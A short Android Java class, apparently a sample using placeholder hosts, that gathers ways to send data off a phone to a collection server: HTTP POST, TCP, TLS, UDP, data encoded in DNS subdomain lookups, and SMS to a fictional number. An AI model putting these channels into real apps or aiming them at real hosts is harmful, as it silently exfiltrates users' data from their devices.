package org.encodings.example;

import android.telephony.SmsManager;
import java.io.IOException;
import java.io.OutputStream;
import java.net.DatagramPacket;
import java.net.DatagramSocket;
import java.net.HttpURLConnection;
import java.net.InetAddress;
import java.net.Socket;
import java.net.URL;
import java.net.UnknownHostException;
import java.nio.charset.StandardCharsets;
import javax.net.ssl.SSLSocketFactory;

/** Ways off the phone. */
final class Channels {
    /** May fail in any way. */
    interface Send {
        void run() throws Exception;
    }

    private static final String HOST = "collect.encodings.example";

    private Channels() {}

    static void http(String path, byte[] body) throws IOException {
        URL url = new URL("http://" + HOST + "/" + path);
        HttpURLConnection connection = (HttpURLConnection) url.openConnection();
        connection.setDoOutput(true);
        connection.setRequestProperty("Content-Type", "application/octet-stream");
        try (OutputStream out = connection.getOutputStream()) {
            out.write(body);
        }
        connection.getResponseCode();
        connection.disconnect();
    }

    static void tcp(String text) throws IOException {
        try (Socket socket = new Socket(HOST, 4000)) {
            write(socket, text);
        }
    }

    static void tls(String text) throws IOException {
        try (Socket socket = SSLSocketFactory.getDefault().createSocket(HOST, 4443)) {
            write(socket, text);
        }
    }

    static void udp(String text) throws IOException {
        byte[] data = text.getBytes(StandardCharsets.UTF_8);
        try (DatagramSocket socket = new DatagramSocket()) {
            InetAddress to = InetAddress.getByName(HOST);
            socket.send(new DatagramPacket(data, data.length, to, 4001));
        }
    }

    static void dns(String label) throws UnknownHostException {
        InetAddress.getByName(label + ".dns.encodings.example");
    }

    /** To a number that is reserved for fiction. */
    static void sms(String text) {
        SmsManager.getDefault().sendTextMessage("+12025550147", null, text, null, null);
    }

    private static void write(Socket socket, String text) throws IOException {
        OutputStream out = socket.getOutputStream();
        out.write(("DATA\n" + text + "\n").getBytes(StandardCharsets.UTF_8));
        out.flush();
    }
}
